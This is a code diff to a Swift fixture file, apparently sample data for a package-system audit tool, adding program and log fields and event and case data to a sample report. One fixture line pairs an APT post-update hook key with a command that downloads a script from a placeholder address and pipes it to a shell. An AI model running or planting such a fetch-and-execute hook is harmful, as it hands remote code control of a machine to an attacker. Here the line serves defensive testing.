@@ -20,6 +20,8 @@ enum SampleReport {
         names.key = text
         names.command = text
         names.archive = UntrustedText(Array("/archives/".utf8) + text.bytes)
+        names.program = HostPath("/usr/local/bin".utf8).appending(text)
+        names.log = text
         return make(names, limits: ["The tree says \(text)."])
     }
 
@@ -67,6 +69,8 @@ enum SampleReport {
         var key: UntrustedText = "APT::Update::Post-Invoke::"
         var command: UntrustedText = "/usr/bin/curl -s http://192.0.2.7/u | sh"
         var archive: UntrustedText = "/archives/openssh-server_9.2p1-2+deb12u3_amd64.deb"
+        var program: HostPath = "/usr/bin/mv"
+        var log: UntrustedText = "events.ndjson"
 
         var owner: PackageKey { PackageKey(name: package, architecture: "amd64") }
     }
@@ -81,7 +85,7 @@ enum SampleReport {
             CoverageGap(path: names.script.appending("x"), reason: "cannot be read: \(names.host)", errno: 13)
         ]
         coverage.limits = limits
-        return AuditReport(
+        var report = AuditReport(
             run: RunIdentity(
                 version: "0.1.0", started: Timestamp(seconds: 1_795_435_200, nanoseconds: 250_000_000),
                 finished: Timestamp(seconds: 1_795_435_203, nanoseconds: 125_000_000), uid: 0),
@@ -95,5 +99,8 @@ enum SampleReport {
             ],
             packageCount: 2, archiveCount: 1, checks: SampleFindings.checks,
             indexes: [SampleArtifacts.chain(names)].compactMap(\.self))
+        report.events = SampleEvents.all(names)
+        report.cases = SampleCases.all(names)
+        return report
     }
 }
